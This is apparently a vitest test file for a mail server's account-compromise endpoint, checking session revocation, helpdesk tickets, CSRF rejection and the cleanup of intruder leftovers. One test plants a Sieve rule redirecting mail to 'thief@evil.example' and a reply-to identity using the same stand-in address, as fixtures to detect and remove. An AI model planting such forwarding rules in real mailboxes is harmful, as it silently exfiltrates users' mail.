/** "I gave my password" over HTTP: others are put out at once, what they left is shown and removed, the helpdesk knows. */
import { afterAll, beforeAll, expect, test } from 'vitest'
import { utf8 } from '#base/bytes.ts'
import { activateScript, createScript, listScripts } from '#domain/filter/scripts.ts'
import { createIdentityWithin, listIdentities } from '#domain/mail/identities.ts'
import { readAudit } from '#domain/people/audit.ts'
import { createAppPassword } from '#domain/people/credentials.ts'
import { ownTickets } from '#domain/tickets/tickets.ts'
import { addAccount, type HttpRig, openHttpRig, password } from '../server/rig.ts'

let rig: HttpRig
let account = 0
beforeAll(async () => {
  rig = await openHttpRig()
  account = await addAccount(rig.house, 'anne')
})
afterAll(() => rig?.close())

const signIn = async (): Promise<string> => {
  const headers = { 'content-type': 'application/json', 'x-csrf': '1' }
  const body = JSON.stringify({ login: 'anne', password })
  const { headers: got } = await rig.call('/auth/login', { method: 'POST', headers, body })
  return [got['set-cookie'] ?? []]
    .flat()
    .map((one) => one.split(';')[0])
    .join('; ')
}
const call = async (cookie: string, path: string, body?: object) => {
  const { status, body: text } = await rig.call(path, {
    method: body === undefined ? 'GET' : 'POST',
    headers: { cookie, ...(body ? { 'content-type': 'application/json', 'x-csrf': '1' } : {}) },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  })
  return { status, json: JSON.parse(text) }
}

test('one press ends every other session and app password, and tells the helpdesk once', async () => {
  const { people, store } = rig.house
  const [mine, thief] = [await signIn(), await signIn()]
  const kept = await createAppPassword(people, 'anne', account, { label: 'Téléphone', scopes: ['imap'] })
  await createAppPassword(people, 'anne', account, { label: 'Inconnu', scopes: ['imap'] })
  const first = await call(mine, '/auth/compromise', { keep: [kept.id] })
  expect(first).toMatchObject({ status: 200, json: { sessions: 1, apps: 1 } })
  expect((await call(thief, '/auth/compromise')).status).toBe(401)
  expect((await call(mine, '/auth/compromise')).status).toBe(200)
  const again = await call(mine, '/auth/compromise', {})
  expect(again.json).toEqual({ sessions: 0, apps: 1, ticket: null })
  const tickets = await store.read((tx) => ownTickets(tx, account))
  expect(tickets.map(({ subject }) => subject)).toEqual(['J’ai donné mon mot de passe'])
  expect((await readAudit(rig.house.ctx)).filter(({ action }) => action === 'account.compromise')).toHaveLength(2)
})

test('what an intruder may have left is shown, and removed', async () => {
  const { store, ctx } = rig.house
  const blob = await ctx.store.blobs.prepare(
    utf8('if header :contains "subject" "x" { redirect "thief@evil.example"; }'),
  )
  await store.write(account, async (tx) => {
    const id = await createScript(ctx, tx, { name: 'Mes règles', content: blob })
    await activateScript(tx, id)
    await createIdentityWithin(tx, {
      name: 'Anne',
      email: `anne@${rig.house.people.options.domains[0]}`,
      replyTo: [{ name: null, email: 'thief@evil.example' }],
      bcc: null,
      textSignature: '',
      htmlSignature: '',
    })
  })
  const mine = await signIn()
  const { json } = await call(mine, '/auth/compromise')
  expect(json.left).toContainEqual({ kind: 'forward', address: 'thief@evil.example', own: false })
  expect(json.left).toContainEqual({ kind: 'rules', name: 'Mes règles' })
  const identity = json.left.find((one: { kind: string }) => one.kind === 'identity')
  expect(identity.copies).toEqual(['thief@evil.example'])
  await call(mine, '/auth/compromise/remove', { what: 'rules' })
  const after = await call(mine, '/auth/compromise/remove', { what: 'identity', id: identity.id })
  expect(JSON.stringify(after.json.left)).not.toContain('evil.example')
  expect((await store.read((tx) => listScripts(tx, account))).some(({ active }) => active)).toBe(false)
  expect((await store.read((tx) => listIdentities(tx, account))).some(({ replyTo }) => replyTo !== null)).toBe(false)
  expect((await call(mine, '/auth/compromise/remove', { what: 'identity', id: 9999 })).status).toBe(404)
  expect((await call(mine, '/auth/compromise/remove', { what: 'everything' })).status).toBe(400)
})

test('nobody does it for somebody else, or from another site', async () => {
  expect((await call('', '/auth/compromise', {})).status).toBe(401)
  const cookie = await signIn()
  const foreign = await rig.call('/auth/compromise', {
    method: 'POST',
    headers: { cookie, 'content-type': 'application/json' },
    body: '{}',
  })
  expect(foreign.status).toBe(403)
})
